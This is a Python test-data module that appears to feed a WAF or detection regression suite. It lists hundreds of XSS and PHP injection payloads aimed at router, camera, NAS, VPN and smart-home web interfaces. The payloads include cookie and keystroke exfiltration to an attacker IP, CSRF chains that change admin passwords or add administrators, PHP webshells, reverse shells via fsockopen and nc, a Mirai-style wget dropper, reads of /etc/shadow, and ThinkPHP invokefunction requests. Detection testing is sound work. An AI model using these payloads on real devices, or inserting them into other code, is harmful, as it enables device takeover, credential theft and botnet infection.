"""Blind set "twohundredfourth": cross-site scripting and PHP injection aimed at the web front ends of embedded
and IoT devices, with benign requests in which network and facilities engineers type the same words innocently.

The angle: embedded and IoT web interfaces, recalled from memory. SOHO routers (goform handlers, apply.cgi,
setup.cgi, boa and GoAhead CGIs, LuCI), IP cameras and NVRs (ISAPI, param.cgi, IE-only ActiveX live-view pages),
NAS boxes (share names, File Station file names, PHP admin apps), printers (embedded web server, SNMP location
shown on the status page), VPN and firewall appliances (login realms, pfSense/OPNsense-style PHP pages), smart-home
hubs and their Vue/Angular cloud portals, industrial HMIs and PLC gateways, set-top boxes, UPnP/SOAP and TR-069
endpoints, the ping/traceroute/nslookup diagnostic pages, firmware upload and backup/restore forms, and the PHP
management apps that sit beside them. A stored XSS goes in through the field the device really has (SSID, DHCP
hostname, OSD text, sysLocation, friendlyName, realm) and usually chains to the device's own CGI handlers with the
administrator's session; PHP payloads go where such devices run PHP (php-cgi behind lighttpd, a config value
written into a generated .php file, an include of ?page=, unserialize() of a cookie or a backup, an upload form
that keeps the file name). Each group of payloads carries a comment naming the device family and the target
(the administrator's browser, Trident/IE, AngularJS or Vue, the PHP interpreter, PHP's stream layer,
unserialize() and its gadget library, php-cgi, the PHP handler of the web server).

Families (one sub-family per detection title):
  xss: libinjection-xss, script-tag, event-handler, attribute-vector, javascript-uri, html-injection, svg-mathml,
    css-expression, template-literal-dom-sink, ie-filter-style, encoded-entity, angular-vue-template
  php: php-open-tag, php-function-call, php-variable-functions, php-wrappers, php-object-injection,
    php-config-directives, superglobals, php-file-upload, php-high-risk-function-names

Placements: every payload is sent twice. Once to our real routes (query of /api/users, the admin search form with
its csrf_token, JSON of /api/users, a cookie, User-Agent, Referer, X-Api-Version, a parameter name, an XML body,
a multipart field, the URL path, the admin import's upload file name), once the way a WAF regression suite sends
it (placements prefixed "rs-"): to device paths that are not our routes (goform, boaform, apply.cgi, HNAP1, LuCI,
webproc, ISAPI, diag_ping.php, index.php, param.cgi) under the devices' own parameter names (ssid, ping_ipaddr,
host, cmd, devicename, submit_button, page, url), as a query string, form body, JSON body, XML body, a raw
form-typed body, an uploaded file's name, or in User-Agent, Referer, a custom header or a cookie. php-cgi argument
injection, ThinkPHP invokefunction and register_globals overwrites go as raw query strings or form bodies (their
own syntax unquoted); upload names go as multipart file names. Payloads with control characters or non-ASCII
never go into headers, cookies or the path; a payload with a slash never goes into the path.

Authorship and independence: written for this repository from general knowledge of each attack family, of how
device web interfaces are attacked as remembered, and of the detection titles alone; no WAF rule, engine source,
ruleset regression test or public payload list was read. Measured once on unchanged code; deterministic (no clock,
no randomness).
"""

from __future__ import annotations

from collections.abc import Iterator
from typing import Any

from .blind_placements import BlindSet
from .records import print_records

NAME = "twohundredfourth"

# An entry is a payload string, or (payload, real placement, rs placement) when it only works in one kind of place.
Entry = str | tuple[str, str, str]
UP = ("multipart-filename", "rs-multipart-filename")
QS = ("param-name", "rs-param-name")
KV = ("form", "rs-raw-body")

# ================================================================================================================
# XSS. Target of every list: the administrator's (or the cloud portal user's) browser rendering the device page,
# unless the comment names Trident/IE or a client-side template engine.
# ----------------------------------------------------------------------------------------------------------------
# libinjection-xss: short tag and attribute break-outs typed into a device field that a status page prints raw
LIBINJECTION: list[Entry] = [
    # SOHO router, Wireless > SSID (ssid / wl_ssid): the site-survey and status pages print SSIDs unescaped
    '"><script>alert(document.domain)</script>',
    "<img src=x onerror=alert(document.cookie)>",
    # DHCP option 12 hostname: the router's "Attached devices" table shows it as HTML
    "<svg onload=alert(1)>",
    "'><img src=/ onerror=alert(1)>",
    # IP camera Device Name (GoAhead-based firmware): echoed inside <title> on every page
    "</title><script>alert(1)</script>",
    # NAS shared folder description, edited in a <textarea> and shown back in one
    "</textarea><svg/onload=alert(document.cookie)>",
    # printer SNMP sysLocation / sysContact, rendered by the embedded web server's home page
    "<body onload=alert('EWS')>",
    # firewall appliance: hostname reflected into value="" of the system settings form
    '" autofocus onfocus=alert(1) x="',
    "' onmouseover='alert(1)",
    # smart-home hub: device label printed inside an inline <script> as var deviceName = "..."
    '";alert(1);//',
    "</script><script>alert(1)</script>",
    "'-alert(1)-'",
    # DSL modem (boa): PPPoE username shown on the WAN status page
    "<iframe src=javascript:alert(1)>",
    "<details open ontoggle=alert(1)>",
    # NVR channel name / OSD text, rendered on the live-view grid
    "<input onfocus=alert(1) autofocus>",
    "<video src=x onerror=alert(1)>",
    # VPN appliance login page: the realm parameter reflected next to the login button
    '"><a href=javascript:alert(1)>login</a>',
    # router DDNS hostname, printed in the DDNS status line
    "<marquee onstart=alert(1)>",
    "<audio src onerror=alert(1)>",
    # managed switch syslog viewer: the message of a forged UDP/514 line
    "<b onmouseover=alert(1)>port 3 link up</b>",
    # UPnP friendlyName of a rogue media renderer, listed in the router's UPnP table
    "<object data=javascript:alert(1)>",
]

# script-tag: <script> elements, their spellings, and what device XSS does next (chains to the device's own CGIs)
SCRIPT: list[Entry] = [
    # SOHO router (goform handlers): stored in the SSID, then posts a new admin password
    "<script>fetch('/goform/setSysAdm',{method:'POST',body:'admuser=admin&admpass=pwned'})</script>",
    # router apply.cgi: turn on remote management on the WAN side
    "<script>new Image().src='/apply.cgi?remote_management=1&http_wanport=8080'</script>",
    # NAS admin session cookie sent out
    "<script>new Image().src='//203.0.113.7/c?'+document.cookie</script>",
    # cameras send no CSP: a remote script from the attacker's host
    "<script src=//203.0.113.7/h.js></script>",
    "<script src=http://203.0.113.7/cam.js></script>",
    # firmware filter that strips "<script>" once, not recursively
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    # lowercase-only blacklist in a boa handler
    "<ScRiPt>alert(1)</sCrIpT>",
    "<SCRIPT>alert(String.fromCharCode(88,83,83))</SCRIPT>",
    # slash instead of whitespace, junk attributes ignored by the parser
    "<script/src=//203.0.113.7/x.js></script>",
    "<script x>alert(1)</script x>",
    # no closing tag: the page's own markup closes it (legacy LuCI views)
    "<script>alert(1)//",
    # newline inside the tag (textarea fields keep newlines)
    "<script\n>alert(1)</script\n>",
    # OpenWrt LuCI: change the root password with the admin's session
    "<script>$.post('/cgi-bin/luci/admin/system/admin',{pw1:'x',pw2:'x'})</script>",
    # VPN portal login page keylogger
    "<script>document.onkeypress=function(e){new Image().src='//203.0.113.7/k?'+e.key}</script>",
    # read the router's CSRF token from the page, then enable the telnet debug mode
    "<script>t=document.forms[0].token.value;fetch('/setup.cgi?todo=debug&token='+t)</script>",
    # read the config backup and post it out
    "<script>r=new XMLHttpRequest;r.open('GET','/cgi-bin/ExportSettings.sh',false);r.send();"
    "fetch('//203.0.113.7/',{method:'POST',body:r.responseText})</script>",
    # script type spellings the browser still runs
    '<script type="text/javascript">alert(1)</script>',
    "<script language=javascript>alert(1)</script>",
    "<script src=data:text/javascript,alert(1)></script>",
    '<script charset="utf-7" src=//203.0.113.7/u7.js></script>',
    # IP camera ISAPI: create a second administrator through the browser
    "<script>fetch('/ISAPI/Security/users',{method:'POST',body:'<User><userName>svc</userName>"
    "<password>Passw0rd!</password><userLevel>Administrator</userLevel></User>'})</script>",
]

# event-handler: on* attributes that fire without a click, on the pages of routers, NVRs and printers
EVENT: list[Entry] = [
    "<img src=1 onerror=prompt(1)>",
    "<div onpointerenter=alert(1)>LAN map</div>",
    "<body onpageshow=alert(1)>",
    "<style>@keyframes x{}</style><p style=animation-name:x onanimationstart=alert(1)>",
    "<input onblur=alert(1) autofocus><input autofocus>",
    "<select autofocus onfocus=alert(1)>",
    "<textarea autofocus onfocus=alert(1)>",
    "<keygen autofocus onfocus=alert(1)>",
    # Wi-Fi settings page: the PSK field is pasted into, a contenteditable catches it
    "<div contenteditable onpaste=alert(1)>paste the PSK here</div>",
    "<body onhashchange=alert(1)><a href=#x>x</a>",
    "<body onresize=alert(1)>",
    "<body onmessage=alert(event.data)>",
    "<frameset onload=alert(1)>",
    "<img src=x onerror=eval(atob('YWxlcnQoMSk='))>",
    # NVR: the handler sends the session out from the live-view page
    "<img src=x:x onerror=this.src='//203.0.113.7/?'+document.cookie>",
    "<div onwheel=alert(1) style=height:9999px>",
    "<a onauxclick=alert(1)>right click</a>",
    # printer embedded web server: fires when the admin prints the configuration page
    "<body onbeforeprint=alert(1)>",
    "<video onloadstart=alert(1) src=x>",
    # form feed and slash as attribute separators
    "<img\x0csrc=x\x0conerror=alert(1)>",
    "<img/src='x'/onerror=alert(1)>",
    "<svg onload\n=alert(1)>",
    "<body/onload=alert(1)>",
]

# attribute-vector: breaking out of (or into) src/href/style/formaction on device settings forms
ATTR: list[Entry] = [
    # NAS share name placed in href="...folder=NAME": leave the quoted value
    '" onclick="alert(1)',
    '" style="position:fixed;top:0;left:0;width:100%;height:100%" onmouseover="alert(1)',
    # camera login page: the custom logo URL lands in <img src="...">
    'x" onerror="alert(1)',
    '"/><img src="x" onerror="alert(1)',
    # router "support URL" shown as <a href="..."> in the footer
    '#" onfocus="alert(1)" autofocus tabindex="1',
    # an injected button inside the router settings form sends the whole form (admin password) elsewhere
    '"><button formaction=//203.0.113.7/grab>Save</button>',
    "<input type=submit formaction=javascript:alert(1) value=Apply>",
    '<form><button formaction="javascript:alert(1)">Reboot</button></form>',
    '<form id=f></form><button form=f formaction=javascript:alert(1)>Apply</button>',
    # style attribute break-out
    '" style="background-image:url(javascript:alert(1))',
    # poster, background and srcset
    "<video poster=javascript:alert(1)>",
    '<body background="javascript:alert(1)">',
    '<img srcset="x 1x" onerror=alert(1)>',
    "<input type=image src=x onerror=alert(1)>",
    # srcdoc with entities: the iframe document is the decoded markup
    '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;">',
    # data: in href / src / object data
    '<a href="data:text/html,<script>alert(1)</script>">help</a>',
    '<embed src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    '<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">',
    "<form action=javascript:alert(1)><input type=submit value=Save>",
    "<isindex formaction=javascript:alert(1) type=submit value=Apply>",
    # hidden input on a GoAhead page: accesskey + onclick fires with Alt+Shift+X
    "' accesskey='x' onclick='alert(1)",
]

# javascript-uri: redirect and link parameters of captive portals, hotspot logins and device "help" links
JSURI: list[Entry] = [
    # hotspot / captive portal login (dst=, redirect=, url=): the portal sets location to the parameter
    "javascript:alert(document.domain)",
    "JaVaScRiPt:alert(1)",
    "javascript:alert(1)//http://portal.example.com/",
    "javascript://portal.example.com/%0aalert(1)",
    "java\tscript:alert(1)",
    "java\nscript:alert(1)",
    "\x01javascript:alert(1)",
    " javascript:alert(1)",
    # decoded in an href attribute before the scheme is parsed
    "javascript&colon;alert(1)",
    "javascript&#58;alert(1)",
    "&#x6A;avascript:alert(1)",
    "jav&#x09;ascript:alert(1)",
    "javascript:%61lert(1)",
    "javascript:eval('al'+'ert(1)')",
    "javascript:alert`1`",
    # VPN portal ?returnUrl=: send the session out, or replace the page with a fake "firmware corrupted" screen
    "javascript:window.location='//203.0.113.7/?c='+document.cookie",
    "javascript:void(document.body.innerHTML='<h1>Firmware corrupted. Call support: +1-555-0100</h1>')",
    "javascript:top.location='http://203.0.113.7/login.htm'",
    "javascript:new%20Image().src='//203.0.113.7/'+document.cookie",
    # polyglot for a field that may land in an href, an attribute or text
    "javascript:/*--></title></style></textarea></script><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+alert(1)//'>",
    # IE-only NVR plugin page (Trident): vbscript: still runs
    "vbscript:msgbox(1)",
    'vbscript:Execute("MsgBox 1")',
]

# html-injection: iframe/object/embed/base/meta/link/form markup stored in a device's banner or label fields
HTML: list[Entry] = [
    # router pages load their scripts by relative path: a <base> above them moves every <script src>
    '<base href="//203.0.113.7/">',
    "<base href=http://203.0.113.7/js/>",
    # VPN portal login banner: meta refresh to a phishing copy of the portal
    '<meta http-equiv="refresh" content="0;url=http://203.0.113.7/remote/login">',
    "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">",
    '<meta http-equiv="Set-Cookie" content="SESSIONID=fixated123; path=/">',
    # credential form injected into the router's login banner
    "<form action=//203.0.113.7/p method=post>Session expired<br>Password: <input type=password name=pwd>"
    "<input type=submit value=Login></form>",
    # camera live view: full-page iframe overlay
    '<iframe src="//203.0.113.7/live.html" style="position:fixed;top:0;left:0;width:100%;height:100%;border:0">',
    # the device's own reboot CGI loaded invisibly from its own UI (CSRF with the admin's session)
    "<iframe src=/cgi-bin/reboot.cgi width=0 height=0>",
    "<img src=/userRpm/SysRebootRpm.htm?Reboot=Reboot width=0 height=0>",
    '<iframe srcdoc="<img src=x onerror=parent.alert(1)>">',
    '<object data="//203.0.113.7/x.swf" type="application/x-shockwave-flash">'
    "<param name=allowScriptAccess value=always></object>",
    "<embed src=//203.0.113.7/x.swf allowscriptaccess=always type=application/x-shockwave-flash>",
    '<object type="text/html" data="//203.0.113.7/frame.html"></object>',
    "<link rel=stylesheet href=//203.0.113.7/steal.css>",
    "<link rel=import href=//203.0.113.7/x.html>",
    # dangling markup: the rest of the page (with the CSRF token) becomes part of the URL
    "<img src='//203.0.113.7/leak?",
    '<a href="//203.0.113.7/?html=',
    "<frameset><frame src=//203.0.113.7/></frameset>",
    # old NVR pages still embed Java applets
    "<applet code=Exploit.class codebase=//203.0.113.7/></applet>",
    # cloud portal sanitizer: noscript parsed differently when scripting is on (mutation XSS)
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    # firmware "update available" banner pointing at a trojaned image
    '<a href="//203.0.113.7/FW_V2.1.0.bin" download>New firmware available, click to update</a>',
]

# svg-mathml: SVG logos and branding images the device serves from its own origin, SVG/MathML inline markup
SVG: list[Entry] = [
    # router/camera branding upload accepts SVG and serves it as image/svg+xml from the device origin
    '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(document.domain)"/>',
    '<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
    "<svg><script>alert&#40;1&#41;</script></svg>",
    "<svg><script href=//203.0.113.7/s.js />",
    "<svg><script xlink:href=data:,alert(1) />",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><set onbegin=alert(1) attributename=x to=y>",
    "<svg><animatetransform onbegin=alert(1) attributeName=transform>",
    "<svg><discard onbegin=alert(1)>",
    '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">Reboot</text></a></svg>',
    "<svg><a><animate attributeName=href values=javascript:alert(1) /><text x=20 y=20>Click</text></a></svg>",
    '<svg><foreignObject><iframe srcdoc="<script>parent.alert(1)</script>"></iframe></foreignObject></svg>',
    '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg>'
    '<image href=1 onerror=alert(1) /></svg>#x" />',
    "<svg><image href=x onerror=alert(1) />",
    "<svg><rect width=100% height=100% onmousemove=alert(1) />",
    "<svg/onload=location='//203.0.113.7/?'+document.cookie>",
    # foreign content: <style> children are markup inside svg/math, an <img> breaks back out (mutation XSS)
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><style><img src=x onerror=alert(1)></style></math>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>CLICK<mtext>192.168.0.1</mtext></maction>",
    "<math><a xlink:href=javascript:alert(1)>Status</a></math>",
    "<math href=javascript:alert(1)>Status</math>",
]

# css-expression: NVR and BMS consoles that only work in IE (ActiveX live-view or trend plugins), target Trident's
# CSS engine; plus CSS that steals the router's CSRF token or Wi-Fi key in any browser
CSS: list[Entry] = [
    '<div style="width:expression(alert(1))">',
    '<p style="x:expression(alert(document.cookie))">',
    "<style>*{x:expression(alert(1))}</style>",
    "<style>body{width:expr/**/ession(alert(1))}</style>",
    '<div style="xss:expr\\65ssion(alert(1))">',
    '<img style="xss:expression(alert(1))" src=x>',
    '<xss style="xss:expression(alert(1))">',
    '<link rel=stylesheet href="data:text/css,*{x:expression(alert(1))}">',
    "<style>@import 'javascript:alert(1)';</style>",
    "<style>@import url(//203.0.113.7/x.css);</style>",
    '<div style="behavior:url(//203.0.113.7/x.htc)">',
    '<div style="-moz-binding:url(//203.0.113.7/x.xml#xss)">',
    '<style>li{list-style-image:url("javascript:alert(1)")}</style><ul><li>',
    '<div style="background-image:url(&#1;javascript:alert(1))">',
    "<style>.n{background:url('vbscript:msgbox(1)')}</style>",
    # attribute-selector exfiltration: one request per guessed character of the router's token / PSK field
    "<style>input[name=token][value^=a]{background:url(//203.0.113.7/t?a)}</style>",
    "<style>input[name=wpa_psk][value$=9]{background:url(//203.0.113.7/k?9)}</style>",
    "<style>@font-face{font-family:x;src:url(//203.0.113.7/f?A);unicode-range:U+0041}"
    "#psk{font-family:x}</style>",
    "<style>@im\\port'\\ja\\vasc\\ript:alert(1)';</style>",
    '<table style="background:url(javascript:alert(1))">',
]

# template-literal-dom-sink: device pages and cloud portals that feed a parameter into a template literal, eval,
# setTimeout, document.write or innerHTML (router login ?lang= / ?msg=, hub device names, location.hash)
DOM: list[Entry] = [
    # smart-home hub web app: the device name goes into `Device ${name} is online`
    "${alert(document.domain)}",
    "`;alert(1);`",
    "${fetch('//203.0.113.7/?'+document.cookie)}",
    "${constructor.constructor('alert(1)')()}",
    # router login page: document.write(location.hash) / innerHTML of the message parameter
    "#<img src=x onerror=alert(1)>",
    # numeric JS context on a status page: var refresh = NUMBER;
    "1;alert(1)",
    "alert(1)//",
    "'+alert(1)+'",
    # the page escapes quotes but not the backslash in var lang = "...";
    '\\";alert(1);//',
    "eval(atob('YWxlcnQoZG9jdW1lbnQuZG9tYWluKQ=='))",
    "setTimeout('alert(1)',0)",
    "Function('alert(1)')()",
    "[].constructor.constructor('alert(1)')()",
    "top['al'+'ert'](1)",
    "window['ev'+'al']('ale'+'rt(1)')",
    "self[atob('YWxlcnQ=')](1)",
    "import('//203.0.113.7/m.js')",
    "location='javascript:alert(1)'",
    "document.write('<script src=//203.0.113.7/x.js><\\/script>')",
    "x=document.createElement('script');x.src='//203.0.113.7/x.js';document.body.appendChild(x)",
    "eval(location.hash.slice(1))",
    # cloud portal: prototype pollution reaching an innerHTML / srcdoc gadget
    '{"__proto__":{"innerHTML":"<img src=x onerror=alert(1)>"}}',
    "__proto__[srcdoc][]=<script>alert(1)</script>",
]

# ie-filter-style: Trident-era vectors for the DVR/NVR web clients that demand IE for their OCX plugin
IE: list[Entry] = [
    "<img dynsrc=javascript:alert(1)>",
    "<img lowsrc=javascript:alert(1)>",
    "<bgsound src=javascript:alert(1)>",
    "<table background=javascript:alert(1)>",
    '<img src="javas&#99;ript:alert(1)">',
    "<img src=java\x00script:alert(1)>",
    '<iframe src="javas\x00cript:alert(1)">',
    "<xml id=x><x><c><![CDATA[<img src=x onerror=alert(1)>]]></c></x></xml>"
    "<span datasrc=#x datafld=c dataformatas=html></span>",
    '<?xml:namespace prefix="t" ns="urn:schemas-microsoft-com:time"><?import namespace="t" '
    'implementation="#default#time2"><t:set attributeName="innerHTML" to="XSS<script defer>alert(1)</script>">',
    '<div style="behavior:url(#default#time2)" onbegin="alert(1)">',
    '<object classid="clsid:ae24fdae-03c6-11d1-8b76-0080c744f389"><param name=url value=javascript:alert(1)>'
    "</object>",
    '<comment><img src="</comment><img src=x onerror=alert(1)//">',
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<script event=onload for=window>alert(1)</script>",
    "<script for=document event=onreadystatechange>alert(1)</script>",
    '<a href="vbscript:MsgBox(1)">live view</a>',
    "<iframe src=vbscript:msgbox(1)>",
    '<x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>',
    "<html xmlns:xss><?import namespace=xss implementation=//203.0.113.7/x.htc><xss:xss>x</xss:xss>",
    "<img src=`x` onerror=alert(1)>",
    "<isindex type=image src=1 onerror=alert(1)>",
    '<base href="javascript:alert(1);//">',
]

# encoded-entity: firmware that decodes twice (boa/mini_httpd CGIs, GoAhead websDecodeUrl), JSON APIs whose \u
# escapes are decoded before innerHTML, UTF-7 pages without a charset, fullwidth forms normalised by a portal
ENCODED: list[Entry] = [
    "%3Cscript%3Ealert(1)%3C%2Fscript%3E",
    "%253Cscript%253Ealert(1)%253C%252Fscript%253E",
    "%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;img src=x onerror=alert(1)&#62;",
    "&#x3c;svg onload=alert(1)&#x3e;",
    # entities inside attribute values are decoded before the handler or the URL is used
    "<img src=x onerror=&#97;&#108;&#101;&#114;&#116;&#40;&#49;&#41;>",
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">Status</a>',
    '<a href="&#x6a&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3a;alert(1)">Help</a>',
    '<img src=x onerror="&#0000097lert(1)">',
    '<a href="javascript&#x3A;alert(1)">Setup wizard</a>',
    "<svg><script>&#97;lert(1)</script></svg>",
    # cloud portal JSON: decoded by JSON.parse / a JS string, then written with innerHTML
    "\\u003cimg src=x onerror=alert(1)\\u003e",
    "\\x3csvg onload=alert(1)\\x3e",
    "\\74script\\76alert(1)\\74/script\\76",
    # UTF-7 on embedded servers that send no charset (IE auto-detection)
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "+ADw-img src=x onerror=alert(1)+AD4-",
    # overlong UTF-8 accepted by old firmware decoders; %u encoding of IIS-based NVR software
    "%C0%BCscript%C0%BEalert(1)%C0%BC/script%C0%BE",
    "%u003Cscript%u003Ealert(1)%u003C/script%u003E",
    # fullwidth angle brackets normalised (NFKC) by the portal before rendering
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "data:text/html;base64,PHNjcmlwdD5hbGVydChkb2N1bWVudC5kb21haW4pPC9zY3JpcHQ+",
    '<iframe src="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">',
]

# angular-vue-template: client-side template injection in device management portals. Targets: AngularJS 1.x
# (controller-style network managers, sandbox escapes by version) and Vue 2/3 (hub and camera cloud portals)
CSTI: list[Entry] = [
    "{{constructor.constructor('alert(1)')()}}",
    "{{$on.constructor('alert(1)')()}}",
    "{{$eval.constructor('alert(1)')()}}",
    "{{[].pop.constructor('alert(1)')()}}",
    "{{constructor.constructor('fetch(\"//203.0.113.7/?\"+document.cookie)')()}}",
    # AngularJS 1.3-1.5 sandbox escapes
    "{{'a'.constructor.prototype.charAt=[].join;$eval('x=1} } };alert(1)//');}}",
    "{{x={'y':''.constructor.prototype};x['y'].charAt=[].join;$eval('x=alert(1)');}}",
    '{{toString.constructor.prototype.toString=toString.constructor.prototype.call;'
    '["a","alert(1)"].sort(toString.constructor)}}',
    # AngularJS with ng-csp: event objects reach window without eval
    "<div ng-app ng-csp><input autofocus ng-focus=$event.view.alert(1)>",
    "<input ng-focus=$event.composedPath()|orderBy:'(z=alert)(1)' autofocus>",
    "<div ng-app>{{$new.constructor('alert(1)')()}}</div>",
    # interpolation symbols changed to [[ ]] by the portal
    "[[constructor.constructor('alert(1)')()]]",
    # Vue 2
    "{{_c.constructor('alert(1)')()}}",
    "{{$emit.constructor`alert(1)`()}}",
    "{{$el.ownerDocument.defaultView.alert(1)}}",
    "<div v-html=\"'<img src=x onerror=alert(1)>'\"></div>",
    '<p v-on:click="$event.view.alert(1)">open camera</p>',
    '<img src=x @error="$event.target.ownerDocument.defaultView.alert(1)">',
    # Vue 3
    "{{_openBlock.constructor('alert(1)')()}}",
    "{{_createBlock.constructor('alert(1)')()}}",
    "<div v-bind:innerHTML=\"'<img src=x onerror=alert(1)>'\"></div>",
]

# NAS File Station / firmware manager: the uploaded file's name is listed as HTML (target: the admin's browser)
XSS_NAMES: list[Entry] = [
    ('"><img src=x onerror=alert(document.cookie)>.jpg', *UP),
    ("<svg onload=alert(1)>.png", *UP),
    ("fw<script>alert(1)</script>.bin", *UP),
    ("'><iframe src=javascript:alert(1)>.cfg", *UP),
]

# ================================================================================================================
# PHP. Devices and appliances that run PHP: php-cgi behind lighttpd/boa on SOHO boards, pfSense/OPNsense-style
# firewall pages, NAS admin apps, NVR/VoIP/monitoring appliances, and the PHP panels the IoT botnets scan for.
# ----------------------------------------------------------------------------------------------------------------
# php-open-tag: code that reaches the PHP parser: a settings value written into a generated .php/.inc file, a log
# line later included by the diagnostics log viewer, an image upload that keeps PHP inside. Target: PHP interpreter
OPEN_TAG: list[Entry] = [
    "<?php system($_REQUEST['cmd']);?>",
    "<?php echo shell_exec('cat /etc/passwd'); ?>",
    "<?=`busybox telnetd -l /bin/sh -p 2323`?>",
    "<?= passthru('nvram show') ?>",
    # short_open_tag on old firmware PHP 5.2
    "<? system('id'); ?>",
    # PHP 5: script-language tag and asp_tags
    '<script language="php">system(\'uname -a\');</script>',
    "<% system('id'); %>",
    "<%= `id` %>",
    # log poisoning: User-Agent into the lighttpd access log, then included by the device's log page
    "<?php passthru($_SERVER['HTTP_X_CMD']); ?>",
    "Mozilla/5.0 <?php system($_GET['x']); ?>",
    # camera logo / NAS avatar polyglot
    "GIF89a<?php @eval($_POST['p']); ?>",
    "<?php\nfile_put_contents('/var/www/x.php',base64_decode('PD9waHAgc3lzdGVtKCRfR0VUWzBdKTs='));\n?>",
    "<?php eval(gzinflate(base64_decode('K64sLknN1VCJd3cNiTaI1bQGAA=='))); ?>",
    # Mirai-style dropper for a MIPS board
    "<?php exec('cd /tmp; wget http://203.0.113.7/mips -O m; chmod 777 m; ./m lighttpd');",
    "<?php $s=fsockopen('203.0.113.7',4444);exec('/bin/sh -i <&3 >&3 2>&3');?>",
    "<?PHP SYSTEM('id');?>",
    "<?php\tsystem('id');",
    "<?php\nsystem('reboot');",
    # close the surrounding PHP of a generated config file, then reopen
    "?><?php phpinfo(); ?>",
    "<?php include('http://203.0.113.7/s.txt');?>",
    "<?php @assert($_POST['a']);?>",
    "<?php readfile('/etc/shadow');?>",
    "<?php\r\n$c=$_COOKIE['c'];system($c);\r\n?>",
    "<?php echo '<pre>'.`ifconfig; route -n`.'</pre>'; ?>",
    "<?php\n/* backup-restore */ passthru(\"cat /var/etc/openvpn/*.key\");",
]

# php-function-call: command and code execution calls. Most go into a value the PHP page later evals or writes
# into a config file as a PHP string literal (e.g. $config['system']['hostname'] = '...'). Target: PHP interpreter
# (commands run by the device's busybox /bin/sh)
CALLS: list[Entry] = [
    "'; system('id'); //",
    "\";system('cat /etc/passwd');//",
    "x'.system('uname -a').'",
    "\".passthru('id').\"",
    "${system('id')}",
    "{${system('id')}}",
    "{${passthru('nvram show')}}",
    "0;system('id');",
    "exec('busybox telnetd -l /bin/sh -p 9999');",
    "passthru('cat /tmp/etc/config/shadow');",
    "shell_exec('wget -qO- http://203.0.113.7/x.sh|sh');",
    "system('tftp -g -r mipsel -l /tmp/m 203.0.113.7;chmod +x /tmp/m;/tmp/m');",
    "popen('/bin/busybox nc 203.0.113.7 4444 -e /bin/sh','r');",
    "proc_open('/bin/sh -i',array(0=>array('pipe','r'),1=>array('pipe','w')),$p);",
    "assert('system(\"id\")');",
    "eval('system(\"id\");');",
    "eval(base64_decode('c3lzdGVtKCdpZCcpOw=='));",
    "@eval(file_get_contents('php://input'));",
    "create_function('','}system(\"id\");//');",
    "create_function('$a','return 1;}system($_GET[0]);/*');",
    "preg_replace('/.*/e','system(\"id\")','x');",
    "preg_replace('/(.*)/e','passthru(\"\\\\1\")','cat /etc/passwd');",
    "mb_ereg_replace('.*','system(\"id\")','x','e');",
    "echo `cat /etc/shadow`;",
    "exec('/usr/sbin/telnetd -l /bin/sh');",
    "system('echo \"root::0:0:root:/root:/bin/sh\" > /etc/passwd');",
    "passthru('ping -c 1 127.0.0.1;id');",
]

# php-variable-functions: the function name built or taken from input (webshell obfuscation on NAS boxes, the
# ThinkPHP invokefunction request IoT botnets spray at every panel). Target: PHP interpreter
VARFUNC: list[Entry] = [
    "$_GET['f']($_GET['a']);",
    "$f='sys'.'tem';$f('id');",
    "$f=strrev('metsys');$f('cat /etc/passwd');",
    "('sy'.'stem')('id');",
    "(str_rot13('flfgrz'))('id');",
    "$a=base64_decode('c3lzdGVt');$a('id');",
    "$x=chr(115).chr(121).chr(115).chr(116).chr(101).chr(109);$x('id');",
    '(~"\\x8c\\x86\\x8c\\x8b\\x9a\\x92")(~"\\x96\\x9b");',
    '("\\x73\\x79\\x73\\x74\\x65\\x6d")("\\x69\\x64");',
    '("\\x13\\x19\\x13\\x14\\x05\\x0d"^"``````")("id");',
    "call_user_func('system','id');",
    "call_user_func_array('passthru',array('nvram show'));",
    "array_map('system',array('id'));",
    "array_filter(array('cat /etc/shadow'),'system');",
    "register_shutdown_function('system','id');",
    "forward_static_call('system','id');",
    "$c='assert';$c($_POST['x']);",
    "$n='_GET';${$n}['f'](${$n}['c']);",
    "(new ReflectionFunction('system'))->invoke('id');",
    "$f=implode('',array('s','y','s','t','e','m'));$f('id');",
    "iterator_apply($i=new ArrayIterator(array(1)),'phpinfo');",
    # ThinkPHP 5.x invokefunction, sent as the scanners send it
    ("s=/Index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=system&vars[1][]=id", *QS),
    ("s=index/think\\app/invokefunction&function=call_user_func_array&vars[0]=shell_exec"
     "&vars[1][]=wget+http://203.0.113.7/t.sh+-O+/tmp/t.sh", *QS),
    ("s=index/\\think\\Container/invokefunction&function=call_user_func_array&vars[0]=phpinfo&vars[1][]=1",
     "form", "rs-param-name"),
    # ThinkPHP 5.0.23: _method=__construct overwrites the filter with a function name
    ("_method=__construct&filter[]=system&method=get&server[REQUEST_METHOD]=id", *KV),
    ("_method=__construct&filter[]=assert&method=get&get[]=phpinfo()", "form", "rs-param-name"),
]

